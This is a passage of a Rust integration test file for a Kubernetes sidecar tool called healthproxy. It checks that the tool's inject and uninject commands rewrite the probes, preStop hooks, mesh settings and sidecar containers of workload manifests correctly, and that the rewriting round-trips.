//! `inject` and `uninject` on manifests written for the purpose
//! (`tests/fixtures/inject`: every workload kind and the edge cases), and
//! end to end: an injected Deployment's config run by the real binary
//! against the demo app, asked what the rewritten probes and the preStop
//! hook ask.
//!
//! Every object written is read as a typed Kubernetes object (k8s-openapi)
//! and written back unchanged, so that a misspelt or unknown field fails.
//! Each original probe is read here independently of `inject`, with the
//! kubelet's defaults, and compared with the check the sidecar runs.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

use k8s_openapi::api::apps::v1::{DaemonSet, Deployment, ReplicaSet, StatefulSet};
use k8s_openapi::api::batch::v1::{CronJob, Job};
use k8s_openapi::api::core::v1::{
    ConfigMap, Container, Namespace, Pod, PodSpec, PodTemplate, PodTemplateSpec, Probe,
    ReplicationController, Secret, Service,
};
use k8s_openapi::apimachinery::pkg::util::intstr::IntOrString;
use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::Value as Json;
use serde_yaml_ng::Value;

use healthproxy::config::{CheckKind, Config, Mesh, ProbeKind, Scheme, lints};
use healthproxy::inject::{self, MeshChoice, Options, Sidecar};

use crate::support::free_port;
use crate::support::{Process, Proxy, binary, eventually, request};

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// Every fixture: its name and text.
fn fixtures() -> Vec<(String, String)> {
    let mut out: Vec<_> = std::fs::read_dir(repo().join("tests/fixtures/inject"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .map(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            (name, std::fs::read_to_string(&p).unwrap())
        })
        .collect();
    out.sort();
    assert!(out.len() >= 10, "the fixtures are there");
    out
}

fn options(sidecar: Sidecar) -> Options {
    Options {
        sidecar,
        ..Options::default()
    }
}

/// The objects of a stream, the items of a List in its place.
fn objects(text: &str) -> Vec<Json> {
    let mut out = Vec::new();
    for doc in serde_yaml_ng::Deserializer::from_str(text) {
        let v: Value = serde::Deserialize::deserialize(doc).unwrap();
        if v.is_null() {
            continue;
        }
        let j = serde_json::to_value(&v).unwrap();
        if j["kind"] == "List" {
            out.extend(j["items"].as_array().unwrap().iter().cloned());
        } else {
            out.push(j);
        }
    }
    out
}

/// Reads `object` as a typed `T` and writes it back: nothing may be lost.
fn typed_as<T: DeserializeOwned + Serialize>(object: &Json) {
    let t: T = serde_json::from_value(object.clone())
        .unwrap_or_else(|e| panic!("{}: {e}\n{object:#}", object["kind"]));
    let back = serde_json::to_value(&t).unwrap();
    assert_eq!(
        &back, object,
        "{} changed when read as a typed object",
        object["kind"]
    );
}

fn typed(object: &Json) {
    match object["kind"].as_str().unwrap() {
        "Pod" => typed_as::<Pod>(object),
        "Deployment" => typed_as::<Deployment>(object),
        "StatefulSet" => typed_as::<StatefulSet>(object),
        "DaemonSet" => typed_as::<DaemonSet>(object),
        "ReplicaSet" => typed_as::<ReplicaSet>(object),
        "ReplicationController" => typed_as::<ReplicationController>(object),
        "Job" => typed_as::<Job>(object),
        "CronJob" => typed_as::<CronJob>(object),
        "ConfigMap" => typed_as::<ConfigMap>(object),
        "Secret" => typed_as::<Secret>(object),
        "Service" => typed_as::<Service>(object),
        "PodTemplate" => typed_as::<PodTemplate>(object),
        // Kinds k8s-openapi has no type for (Argo's Rollout, OpenKruise's
        // CloneSet): their pod template, where they keep one, is typed.
        "Rollout" | "CloneSet" => {
            let template = &object["spec"]["template"];
            if !template.is_null() {
                typed_as::<PodTemplateSpec>(template);
            }
        }
        "Namespace" => typed_as::<Namespace>(object),
        other => panic!("no typed check for {other}"),
    }
}

/// The pod spec of a workload, typed.
fn pod_spec(object: &Json) -> Option<PodSpec> {
    let template = match object["kind"].as_str()? {
        "Pod" => object,
        "CronJob" => &object["spec"]["jobTemplate"]["spec"]["template"],
        "Deployment" | "StatefulSet" | "DaemonSet" | "ReplicaSet" | "ReplicationController" | "Job" => {
            &object["spec"]["template"]
        }
        "Rollout" if object["apiVersion"].as_str()?.starts_with("argoproj.io/") => {
            object["spec"].get("template")?
        }
        _ => return None,
    };
    Some(serde_json::from_value(template["spec"].clone()).unwrap())
}

fn find<'a>(objects: &'a [Json], kind: &str, name: &str) -> Option<&'a Json> {
    objects
        .iter()
        .find(|o| o["kind"] == kind && o["metadata"]["name"] == name)
}

/// The ConfigMap that the injected `workload` mounts as its sidecar's
/// config, whatever it is named.
fn mounted_config_map<'a>(objects: &'a [Json], workload: &Json) -> &'a Json {
    let volumes = pod_spec(workload).unwrap().volumes.unwrap();
    let volume = volumes.iter().find(|v| v.name == "healthproxy-config").unwrap();
    let name = &volume.config_map.as_ref().unwrap().name;
    find(objects, "ConfigMap", name).unwrap_or_else(|| panic!("ConfigMap {name} is in the stream"))
}

/// The config.toml of the sidecar of the workload named `name`.
fn config_of(objects: &[Json], name: &str) -> String {
    let workload = objects
        .iter()
        .find(|o| o["metadata"]["name"] == name && pod_spec(o).is_some())
        .unwrap();
    mounted_config_map(objects, workload)["data"]["config.toml"]
        .as_str()
        .unwrap()
        .to_string()
}

/// A check as the kubelet would run the original probe.
#[derive(Debug, PartialEq, Eq)]
enum Handler {
    Http {
        https: bool,
        host: String,
        port: u16,
        path: String,
        headers: Vec<(String, String)>,
    },
    Tcp {
        host: String,
        port: u16,
    },
    Grpc {
        port: u16,
        service: String,
    },
}

/// Initial delay, period, timeout, success and failure thresholds, in
/// seconds and counts.
type Timing = [u64; 5];

/// The kubelet's reading of `probe` on `container` (kubelet-semantics
/// §1.1, §2, §3.1): defaults for absent or zero fields, a named port
/// looked up in the container's ports. `None` for an exec probe.
fn kubelet_reading(container: &Container, probe: &Probe) -> Option<(Handler, Timing)> {
    let port = |p: &IntOrString| -> u16 {
        match p {
            IntOrString::Int(n) => *n as u16,
            IntOrString::String(name) => container
                .ports
                .iter()
                .flatten()
                .find(|cp| cp.name.as_deref() == Some(name.as_str()))
                .map(|cp| cp.container_port as u16)
                .unwrap_or_else(|| name.parse().unwrap()),
        }
    };
    // The sidecar shares the pod's network: loopback is the pod.
    let host = |h: &Option<String>| h.clone().unwrap_or_else(|| "127.0.0.1".into());
    let handler = if let Some(h) = &probe.http_get {
        let path = h.path.clone().unwrap_or_else(|| "/".into());
        Handler::Http {
            https: h.scheme.as_deref() == Some("HTTPS"),
            host: host(&h.host),
            port: port(&h.port),
            path: if path.starts_with('/') {
                path
            } else {
                format!("/{path}")
            },
            headers: h
                .http_headers
                .iter()
                .flatten()
                .map(|x| (x.name.clone(), x.value.clone()))
                .collect(),
        }
    } else if let Some(t) = &probe.tcp_socket {
        Handler::Tcp {
            host: host(&t.host),
            port: port(&t.port),
        }
    } else if let Some(g) = &probe.grpc {
        Handler::Grpc {
            port: g.port as u16,
            service: g.service.clone().unwrap_or_default(),
        }
    } else {
        return None;
    };
    let or = |v: Option<i32>, d: u64| v.filter(|v| *v > 0).map_or(d, |v| v as u64);
    let timing = [
        probe.initial_delay_seconds.unwrap_or(0) as u64,
        or(probe.period_seconds, 10),
        or(probe.timeout_seconds, 1),
        or(probe.success_threshold, 1),
        or(probe.failure_threshold, 3),
    ];
    Some((handler, timing))
}

/// The sidecar's check, in the same terms.
fn check_reading(kind: &CheckKind) -> Handler {
    match kind {
        CheckKind::Http(h) => {
            let mut headers = h.headers.clone();
            headers.sort();
            Handler::Http {
                https: h.scheme == Scheme::Https,
                host: h.host.name.clone(),
                port: h.port,
                path: h.path.clone(),
                headers,
            }
        }
        CheckKind::Tcp(t) => Handler::Tcp {
            host: t.host.name.clone(),
            port: t.port,
        },
        CheckKind::Grpc(g) => Handler::Grpc {
            port: g.port,
            service: g.service.clone(),
        },
        other => panic!(
            "inject never writes a {} check from a kubelet's handler",
            other.as_str()
        ),
    }
}

/// The sidecar environment variables a generated config reads: its
/// `*_env` keys and its `${VAR}` hosts.
pub fn config_vars(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (open, close) in [("_env = \"", '"'), ("\"${", '}')] {
        let mut rest = text;
        while let Some(at) = rest.find(open) {
            rest = &rest[at + open.len()..];
            let end = rest.find(close).unwrap();
            out.push(rest[..end].to_string());
        }
    }
    out.sort();
    out.dedup();
    out
}

/// The kinds of check an exec probe becomes.
const NATIVE_KINDS: &[&str] = &[
    "postgres", "redis", "mysql", "dialogue", "process", "http", "grpc", "tcp",
];

fn probe_of(c: &Container, kind: ProbeKind) -> Option<&Probe> {
    match kind {
        ProbeKind::Startup => c.startup_probe.as_ref(),
        ProbeKind::Liveness => c.liveness_probe.as_ref(),
        ProbeKind::Readiness => c.readiness_probe.as_ref(),
    }
}

/// The sidecar container as deploy/ writes it for `sidecar`.
fn deploy_sidecar(sidecar: Sidecar) -> Container {
    let (dir, list) = match sidecar {
        Sidecar::Native => ("native", "initContainers"),
        Sidecar::Classic => ("classic", "containers"),
    };
    let text = std::fs::read_to_string(repo().join(format!("deploy/{dir}/sidecar.yaml"))).unwrap();
    let patch = objects(&text).remove(0);
    serde_json::from_value(patch["spec"]["template"]["spec"][list][0].clone()).unwrap()
}

/// Checks one injected workload against its original: every probe moved
/// with its meaning, exec probes and own preStop hooks kept, the sidecar
/// as deploy/ writes it, the config valid and free of lints.
fn check_workload(original: &Json, output: &[Json], sidecar: Sidecar) {
    let name = original["metadata"]["name"].as_str().unwrap();
    let kind = original["kind"].as_str().unwrap();
    let before = pod_spec(original).unwrap();
    let injected = find(output, kind, name).unwrap();
    let after = pod_spec(injected).unwrap();
    if pod_spec(injected)
        .unwrap()
        .volumes
        .is_none_or(|v| v.iter().all(|v| v.name != "healthproxy-config"))
    {
        let moved_any = before.containers.iter().any(|c| {
            ProbeKind::ALL
                .iter()
                .any(|k| probe_of(c, *k).is_some_and(|p| p.exec.is_none()))
        });
        assert!(!moved_any, "{kind} {name}: a kubelet's handler moves");
        assert_eq!(original, injected, "{kind} {name}: nothing to move, unchanged");
        return;
    }
    let config_map = mounted_config_map(output, injected);
    let config_text = config_map["data"]["config.toml"].as_str().unwrap();
    assert_eq!(
        config_map["metadata"]["name"].as_str().unwrap(),
        format!("{name}-healthproxy-{}", &sha256_hex(config_text)[..10]),
        "{kind} {name}: named by the hash of its content"
    );
    let text = config_map["data"]["config.toml"].as_str().unwrap();
    // The sidecar's variables, as the kubelet sets them.
    let vars = config_vars(text);
    let config = Config::from_toml_str(text, "generated", &|v: &str| {
        vars.iter().any(|x| x == v).then(|| "from-the-pod".to_string())
    })
    .unwrap();
    assert_eq!(
        lints(&config),
        vec![],
        "{kind} {name}: the generated config has no lint"
    );
    let token = find(output, "Secret", &format!("{name}-healthproxy-token"))
        .map(|s| s["stringData"]["token"].as_str().unwrap().to_string());

    for c in &before.containers {
        let out = after.containers.iter().find(|o| o.name == c.name).unwrap();
        for kind in ProbeKind::ALL {
            let original_probe = probe_of(c, kind);
            let rewritten = probe_of(out, kind);
            let Some(probe) = original_probe else {
                assert!(rewritten.is_none(), "{name}/{}: no {kind} probe appears", c.name);
                continue;
            };
            let check = config
                .checks
                .iter()
                .find(|k| k.container.as_deref() == Some(c.name.as_str()) && k.probes.contains(kind));
            let secs = |d: Duration| d.as_secs();
            let timing = match kubelet_reading(c, probe) {
                Some((handler, timing)) => {
                    let check =
                        check.unwrap_or_else(|| panic!("{name}/{}: the {kind} probe became a check", c.name));
                    let mut expected = handler;
                    if let Handler::Http { headers, .. } = &mut expected {
                        headers.sort();
                    }
                    assert_eq!(check_reading(&check.kind), expected, "{name}/{} {kind}", c.name);
                    timing
                }
                None => {
                    // An exec probe: kept as it is, or a native check
                    // (the exact tables are asserted per fixture below).
                    let Some(check) = check else {
                        assert_eq!(rewritten, Some(probe), "{name}/{}: an exec probe stays", c.name);
                        continue;
                    };
                    assert!(
                        NATIVE_KINDS.contains(&check.kind.as_str()),
                        "{name}/{}: {kind} became a {} check",
                        c.name,
                        check.kind.as_str()
                    );
                    let or = |v: Option<i32>, d: u64| v.filter(|v| *v > 0).map_or(d, |v| v as u64);
                    let timeout = or(probe.timeout_seconds, 1);
                    assert!(
                        secs(check.timing.timeout) <= timeout,
                        "{name}/{}: never longer than the kubelet waits",
                        c.name
                    );
                    [
                        probe.initial_delay_seconds.unwrap_or(0) as u64,
                        or(probe.period_seconds, 10),
                        secs(check.timing.timeout),
                        or(probe.success_threshold, 1),
                        or(probe.failure_threshold, 3),
                    ]
                }
            };
            let check = check.unwrap();
            let t = &check.timing;
            assert_eq!(
                [
                    secs(t.initial_delay),
                    secs(t.period),
                    secs(t.timeout),
                    u64::from(t.success_threshold),
                    u64::from(t.failure_threshold)
                ],
                timing,
                "{name}/{} {kind}: the check keeps the probe's timing",
                c.name
            );
            // The rewritten probe asks the sidecar, with the documented
            // guarantees.
            let r = rewritten.unwrap();
            let get = r.http_get.as_ref().unwrap();
            assert_eq!(
                get.path.as_deref(),
                Some(format!("/containers/{}/{}", c.name, kind.endpoint()).as_str())
            );
            assert_eq!(get.port, IntOrString::Int(9775));
            let [delay, period, timeout, _, failure] = timing;
            let spacing = period.max(timeout);
            let (rd, rp, rf) = (
                r.initial_delay_seconds.unwrap() as u64,
                r.period_seconds.unwrap() as u64,
                r.failure_threshold.unwrap() as u64,
            );
            assert!(rd >= delay, "never asked before the original delay");
            match kind {
                ProbeKind::Startup => {
                    assert!(
                        rf * rp >= failure * spacing + spacing,
                        "the startup budget is kept"
                    );
                    assert!(
                        rf * rp <= failure * spacing + spacing + 1,
                        "and no more than a period and a second over"
                    );
                }
                _ => {
                    assert!(rf >= 2, "one lost answer is never enough");
                    assert!(
                        rf * rp <= period + 1,
                        "the kubelet acts within a period and a second"
                    );
                }
            }
            assert_eq!(
                r.termination_grace_period_seconds,
                probe.termination_grace_period_seconds
            );
        }
        // preStop: the container's own kept, else the sidecar's /prestop.
        let own = c.lifecycle.as_ref().and_then(|l| l.pre_stop.as_ref());
        let now = out.lifecycle.as_ref().and_then(|l| l.pre_stop.as_ref()).unwrap();
        match own {
            Some(own) => assert_eq!(own, now),
            None => {
                let get = now.http_get.as_ref().unwrap();
                assert_eq!(get.path.as_deref(), Some("/prestop"));
                let header = &get.http_headers.as_ref().unwrap()[0];
                assert_eq!(header.name, "Authorization");
                assert_eq!(
                    Some(header.value.clone()),
                    token.as_ref().map(|t| format!("Bearer {t}"))
                );
            }
        }
    }

    // The sidecar, as deploy/ writes it (but the image).
    let list = match sidecar {
        Sidecar::Native => after.init_containers.clone().unwrap(),
        Sidecar::Classic => after.containers.clone(),
    };
    let mut ours = match sidecar {
        Sidecar::Native => list.last().unwrap().clone(),
        Sidecar::Classic => list[0].clone(),
    };
    assert_eq!(ours.name, "healthproxy");
    // The variables the checks read, each by reference to the app's own
    // definition (a Secret's value is never written), or a literal the
    // probe's command held (a password written in the pod spec stays
    // there, never in the ConfigMap).
    for var in ours.env.take().unwrap_or_default() {
        assert!(
            vars.contains(&var.name),
            "{kind} {name}: ${} is read by a check",
            var.name
        );
        match &var.value_from {
            Some(from) => {
                let app = before.containers.iter().find_map(|c| {
                    c.env
                        .iter()
                        .flatten()
                        .find(|e| e.name == var.name)
                        .map(|e| (c, e))
                });
                let (app, def) = app.unwrap_or_else(|| panic!("{kind} {name}: ${} is the app's", var.name));
                let mut expected = def.value_from.clone().unwrap();
                if let Some(r) = &mut expected.resource_field_ref {
                    r.container_name.get_or_insert_with(|| app.name.clone());
                }
                assert_eq!(from, &expected, "{kind} {name}: ${} by reference", var.name);
            }
            None => {
                assert!(var.name.starts_with("HEALTHPROXY_"), "{}", var.name);
                let value = var.value.unwrap();
                assert!(
                    !config_text.contains(&value),
                    "{kind} {name}: a credential in the ConfigMap"
                );
            }
        }
    }
    let mut reference = deploy_sidecar(sidecar);
    ours.image = None;
    reference.image = None;
    if token.is_none() {
        reference
            .volume_mounts
            .as_mut()
            .unwrap()
            .retain(|m| m.name != "healthproxy-token");
    }
    assert_eq!(ours, reference, "{kind} {name}: the sidecar is deploy/'s");
    let grace = after.termination_grace_period_seconds.unwrap_or(30);
    assert!(
        Duration::from_secs(grace as u64) >= config.drain.max + Duration::from_secs(10),
        "the grace period covers the drain and the app's own shutdown"
    );
    if kind == "Job" || kind == "CronJob" {
        assert_eq!(config.drain.exit_when_app_exits, sidecar == Sidecar::Classic);
    }
}

#[test]
fn every_fixture_injects_into_typed_objects_with_every_probe_kept_in_meaning() {
    for (name, text) in fixtures() {
        for sidecar in [Sidecar::Native, Sidecar::Classic] {
            let out = inject::inject(&text, &options(sidecar)).unwrap_or_else(|e| panic!("{name}: {e}"));
            let output = objects(&out.text);
            output.iter().for_each(typed);
            let input = objects(&text);
            input.iter().for_each(typed);
            for original in &input {
                if pod_spec(original).is_some() {
                    check_workload(original, &output, sidecar);
                } else {
                    assert!(
                        output.contains(original),
                        "{name}: {} passes through",
                        original["kind"]
                    );
                }
            }
        }
    }
}

/// `a` and `b` hold the same objects, keys in the same order.
fn assert_same_stream(a: &str, b: &str, what: &str) {
    let docs = |t: &str| -> Vec<String> {
        serde_yaml_ng::Deserializer::from_str(t)
            .map(|d| {
                serde_yaml_ng::to_string(&<Value as serde::Deserialize>::deserialize(d).unwrap()).unwrap()
            })
            .filter(|d| d.trim() != "null")
            .collect()
    };
    assert_eq!(docs(a), docs(b), "{what}");
}

#[test]
fn uninject_restores_every_fixture_and_inject_is_idempotent() {
    for (name, text) in fixtures() {
        for sidecar in [Sidecar::Native, Sidecar::Classic] {
            let once = inject::inject(&text, &options(sidecar)).unwrap().text;
            let twice = inject::inject(&once, &options(sidecar)).unwrap().text;
            assert_eq!(once, twice, "{name}: inject(inject(x)) == inject(x)");
            let back = inject::uninject(&once).unwrap().text;
            assert_same_stream(&back, &text, &format!("{name}: uninject(inject(x)) == x"));
            // Documents inject leaves alone come back as written.
            let unchanged_back = inject::uninject(&text).unwrap().text;
            assert_eq!(
                unchanged_back, text,
                "{name}: uninject of a stream never injected changes nothing"
            );
        }
    }
}

#[test]
fn documents_left_alone_keep_their_text_and_comments() {
    let text = std::fs::read_to_string(repo().join("tests/fixtures/inject/deployment.yaml")).unwrap();
    let out = inject::inject(&text, &Options::default()).unwrap().text;
    let service = text.split("---\n").next().unwrap();
    assert!(
        out.starts_with(service),
        "the Service is written as it was:\n{out}"
    );
}

#[test]
fn a_rendered_chart_with_empty_documents_and_crlf_round_trips() {
    // What `helm template` writes: a leading marker, a "Source" comment
    // on each document, an empty document; and Windows line ends.
    let pod = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let text =
        format!("---\n# Source: chart/templates/empty.yaml\n---\n# Source: chart/templates/pod.yaml\n{pod}")
            .replace('\n', "\r\n");
    let out = inject::inject(&text, &Options::default()).unwrap();
    assert!(
        out.text
            .starts_with("# Source: chart/templates/empty.yaml\r\n---\n"),
        "{}",
        out.text
    );
    assert!(
        out.warnings.iter().any(|w| w.contains("comment")),
        "{:?}",
        out.warnings
    );
    objects(&out.text).iter().for_each(typed);
    let back = inject::uninject(&out.text).unwrap().text;
    assert_same_stream(&back, &text, "the chart comes back");
}

#[test]
fn an_injected_pod_changed_since_keeps_the_change_on_uninject() {
    let text = std::fs::read_to_string(repo().join("tests/fixtures/inject/replicaset.yaml")).unwrap();
    let once = inject::inject(&text, &Options::default()).unwrap().text;
    let edited = once.replace("image: redis:7", "image: redis:7.2");
    let back = inject::uninject(&edited).unwrap().text;
    assert_same_stream(
        &back,
        &text.replace("image: redis:7", "image: redis:7.2"),
        "the new image stays",
    );
}

#[test]
fn reinjecting_with_other_options_starts_from_the_original() {
    let text = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let native = inject::inject(&text, &Options::default()).unwrap().text;
    let classic = inject::inject(&native, &options(Sidecar::Classic)).unwrap().text;
    let direct = inject::inject(&text, &options(Sidecar::Classic)).unwrap().text;
    let token = |t: &str| {
        let objects = objects(t);
        find(&objects, "Secret", "solo-healthproxy-token").unwrap()["stringData"]["token"].clone()
    };
    assert_eq!(token(&native), token(&classic), "the token is kept");
    // Written as plain text or quoted, as the random token happens to be.
    let normal = |text: &str| {
        let t = token(text);
        let t = t.as_str().unwrap();
        text.replace(&format!("\"{t}\""), t).replace(t, "TOKEN")
    };
    assert_eq!(normal(&classic), normal(&direct));
}

#[test]
fn what_cannot_be_carried_over_is_refused_naming_object_and_field() {
    let base = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let cases = [
        (
            base.replace("port: http}", "port: admin}"),
            "spec.containers[web].livenessProbe.httpGet.port",
        ),
        (
            base.replace("periodSeconds: 3", "periodSeconds: 3\n        sleepSeconds: 1"),
            "spec.containers[web].readinessProbe.sleepSeconds",
        ),
        (
            base.replace("containerPort: 80", "containerPort: 9775"),
            "spec.containers[web].ports[0].containerPort",
        ),
        (base.replace("name: solo\n", ""), "metadata.name"),
        (
            base.replace(
                "  containers:\n",
                "  containers:\n    - name: metrics\n      image: x\n      ports: [{containerPort: 9775}]\n",
            ),
            "spec.containers[metrics].ports[0].containerPort",
        ),
        (
            base.replace("- name: web", "- name: healthproxy"),
            "spec.containers[healthproxy]",
        ),
    ];
    for (text, field) in cases {
        let refusal = inject::inject(&text, &Options::default()).unwrap_err();
        assert_eq!(refusal.field, field, "{refusal}");
        assert!(refusal.object.contains("Pod"), "{refusal}");
    }
    // A Job's classic sidecar must know the app's port to exit with it.
    let job = std::fs::read_to_string(repo().join("tests/fixtures/inject/job.yaml"))
        .unwrap()
        .replace("          ports: [{containerPort: 8080}]\n", "")
        .replace("port: 8080", "port: 8080, host: db.example");
    let refusal = inject::inject(&job, &options(Sidecar::Classic)).unwrap_err();
    assert_eq!(refusal.field, "spec.template.spec.containers", "{refusal}");
}

#[test]
fn two_workloads_of_one_name_are_refused_rather_than_share_a_config() {
    let pod = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let job = std::fs::read_to_string(repo().join("tests/fixtures/inject/job.yaml"))
        .unwrap()
        .replace("name: migrate\n", "name: solo\n");
    let refusal = inject::inject(&format!("{pod}---\n{job}"), &Options::default()).unwrap_err();
    assert_eq!(
        (refusal.object.as_str(), refusal.field.as_str()),
        ("Job solo", "metadata.name")
    );
    // In another namespace, they do not meet.
    let job = job.replacen("name: solo\n", "name: solo\n  namespace: batch\n", 1);
    inject::inject(&format!("{pod}---\n{job}"), &Options::default()).unwrap();
}

#[test]
fn only_the_containers_asked_for_are_injected() {
    let text = std::fs::read_to_string(repo().join("tests/fixtures/inject/daemonset.yaml")).unwrap();
    let out = inject::inject(
        &text,
        &Options {
            containers: Some(vec!["shipper".into()]),
            ..Options::default()
        },
    )
    .unwrap();
    let output = objects(&out.text);
    let spec = pod_spec(find(&output, "DaemonSet", "agent").unwrap()).unwrap();
    let collector = spec.containers.iter().find(|c| c.name == "collector").unwrap();
    assert_eq!(
        collector
            .liveness_probe
            .as_ref()
            .unwrap()
            .http_get
            .as_ref()
            .unwrap()
            .path
            .as_deref(),
        Some("/health"),
        "collector is left alone"
    );
    let config = config_of(&output, "agent");
    assert!(config.contains(r#"container = "shipper""#) && !config.contains("collector"));
}

/// The `[drain]` of the config `inject` generated for `name` in `output`.
fn drain_of(output: &[Json], name: &str) -> healthproxy::config::DrainConfig {
    let text = config_of(output, name);
    Config::from_toml_str(&text, "generated", &|_: &str| None)
        .unwrap()
        .drain
}

#[test]
fn the_drain_gets_the_ports_a_service_targets_and_the_mesh_each_pod_shows() {
    let text = std::fs::read_to_string(fixture_path("mesh.yaml")).unwrap();
    for sidecar in [Sidecar::Native, Sidecar::Classic] {
        let out = inject::inject(&text, &options(sidecar)).unwrap();
        let output = objects(&out.text);
        output.iter().for_each(typed);
        let drains: Vec<(Vec<u16>, Mesh)> = ["web", "worker", "payments", "reports", "export"]
            .iter()
            .map(|name| {
                let d = drain_of(&output, name);
                (d.ports, d.mesh)
            })
            .collect();
        assert_eq!(
            drains,
            [
                // The Service's target, not the probed management port nor
                // the cache; Istio from the Namespace's label.
                (vec![8080], Mesh::Istio { proxy_uid: 1337 }),
                // The probed port; the pod opts out of its Namespace's mesh.
                (vec![8081], Mesh::None),
                (vec![8443], Mesh::Linkerd { proxy_uid: 2102 }),
                (vec![7000], Mesh::Istio { proxy_uid: 1400 }),
                (vec![8000], Mesh::Linkerd { proxy_uid: 2200 }),
            ],
            "{sidecar:?}"
        );
        let notes = out.notes.join("\n");
        for line in [
            "Deployment shop/web: drain.ports = [8080]: the ports Service web targets; declared 6379, 9090 left out (no balancer sends there)",
            "Deployment shop/web: drain.mesh = istio, from its Namespace's istio-injection: enabled",
            "Deployment shop/worker: drain.ports = [8081]: the probed ports: no Service in the stream selects the pod; declared 9102 left out",
            "Deployment shop/worker: drain.mesh = none: no mesh in the pod or the stream",
            "Pod payments/payments: drain.mesh = linkerd, from its classic linkerd-proxy container",
            "Pod reports: drain.mesh = istio, from its native istio-proxy container",
            "Job export: drain.mesh = linkerd, from linkerd.io/inject: enabled",
        ] {
            assert!(notes.contains(line), "{sidecar:?}: {line}\nin:\n{notes}");
        }
        // The round trip, as for every fixture.
        let twice = inject::inject(&out.text, &options(sidecar)).unwrap();
        assert_eq!(out.text, twice.text, "inject(inject(x)) == inject(x)");
        assert_eq!(out.notes, twice.notes, "the same choices again");
        let back = inject::uninject(&out.text).unwrap().text;
        assert_same_stream(&back, &text, "uninject(inject(x)) == x");
    }
}

#[test]
fn a_pod_in_two_meshes_is_refused_unless_mesh_says_which() {
    let text = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: both\n  annotations: {linkerd.io/inject: enabled}\n\
                spec:\n  containers:\n  - name: app\n    image: app\n    readinessProbe: {tcpSocket: {port: 8080}}\n  \
                - name: istio-proxy\n    image: proxyv2\n";
    let refusal = inject::inject(text, &Options::default()).unwrap_err();
    assert_eq!(refusal.object, "Pod both");
    assert!(
        refusal.message.contains("Istio (its classic istio-proxy container) and Linkerd (linkerd.io/inject: enabled): choose with --mesh"),
        "{refusal}"
    );
    for (choice, mesh) in [
        (MeshChoice::Istio, Mesh::Istio { proxy_uid: 1337 }),
        (MeshChoice::Linkerd, Mesh::Linkerd { proxy_uid: 2102 }),
        (MeshChoice::None, Mesh::None),
    ] {
        let options = Options {
            mesh: choice,
            ..Options::default()
        };
        let out = inject::inject(text, &options).unwrap();
        assert_eq!(drain_of(&objects(&out.text), "both").mesh, mesh);
        assert!(
            out.notes.iter().any(|n| n.ends_with("(--mesh)")),
            "{:?}",
            out.notes
        );
    }
    // The command says the same.
    let (code, out, err) = cli(&["inject", "--mesh", "istio"], text);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains(r#"mesh = "istio""#), "{out}");
    assert!(
        err.contains("note: Pod both: drain.mesh = istio (--mesh)"),
        "{err}"
    );
    assert!(
        err.contains("note: Pod both: drain.ports = [8080]: the probed ports"),
        "{err}"
    );
    let (code, out, err) = cli(&["inject"], text);
    assert_eq!((code, out.as_str()), (2, ""), "{err}");
}

#[test]
fn a_pod_read_from_json_is_injected_by_the_same_function() {
    // As an admission request carries it: JSON, no name of a workload but
    // the pod's own.
    let json = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"n"},
        "spec":{"containers":[{"name":"app","image":"x","ports":[{"name":"web","containerPort":8080}],
        "readinessProbe":{"httpGet":{"path":"/ready","port":"web"},"periodSeconds":4}}]}}"#;
    let mut pod: Value = serde_json::from_str(json).unwrap();
    let original = pod.clone();
    let workload = inject::Workload {
        kind: "Pod".into(),
        name: "p".into(),
        namespace: Some("n".into()),
    };
    let injected = inject::template::inject(
        &mut pod,
        &workload,
        &Options::default(),
        &Default::default(),
        None,
    )
    .unwrap();
    let inject::template::Injected::Changed(injection) = injected else {
        panic!("the probe moves");
    };
    assert!(
        injection
            .config
            .contains(r#"http = { port = 8080, path = "/ready" }"#)
    );
    assert!(injection.token.is_some());
    typed_as::<Pod>(&serde_json::to_value(&pod).unwrap());
    let undone = inject::template::uninject(&mut pod, &workload).unwrap().unwrap();
    assert_eq!(undone.token, injection.token, "the token is found again");
    assert_eq!(
        serde_json::to_string(&pod).unwrap(),
        serde_json::to_string(&original).unwrap()
    );
}

#[test]
fn another_port_is_used_everywhere() {
    let text = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let out = inject::inject(
        &text,
        &Options {
            port: 9999,
            ..Options::default()
        },
    )
    .unwrap();
    let output = objects(&out.text);
    let config = config_of(&output, "solo");
    assert!(config.contains(r#"listen = "[::]:9999""#), "{config}");
    let spec = pod_spec(find(&output, "Pod", "solo").unwrap()).unwrap();
    let web = &spec.containers[0];
    for port in [
        &web.liveness_probe
            .as_ref()
            .unwrap()
            .http_get
            .as_ref()
            .unwrap()
            .port,
        &web.lifecycle
            .as_ref()
            .unwrap()
            .pre_stop
            .as_ref()
            .unwrap()
            .http_get
            .as_ref()
            .unwrap()
            .port,
    ] {
        assert_eq!(port, &IntOrString::Int(9999));
    }
    let sidecar = spec.init_containers.as_ref().unwrap().last().unwrap();
    assert_eq!(sidecar.ports.as_ref().unwrap()[0].container_port, 9999);
    assert!(!out.text.contains("9775"), "no trace of the default port");
}

// === The command line ===

fn cli(args: &[&str], stdin: &str) -> (i32, String, String) {
    let out = crate::support::piped(Command::new(binary()).args(args), stdin);
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

fn fixture_path(name: &str) -> String {
    repo()
        .join("tests/fixtures/inject")
        .join(name)
        .display()
        .to_string()
}

#[test]
fn the_command_reads_files_or_stdin_and_round_trips() {
    let pod = fixture_path("pod.yaml");
    let (code, out, err) = cli(&["inject", &pod, &fixture_path("job.yaml")], "");
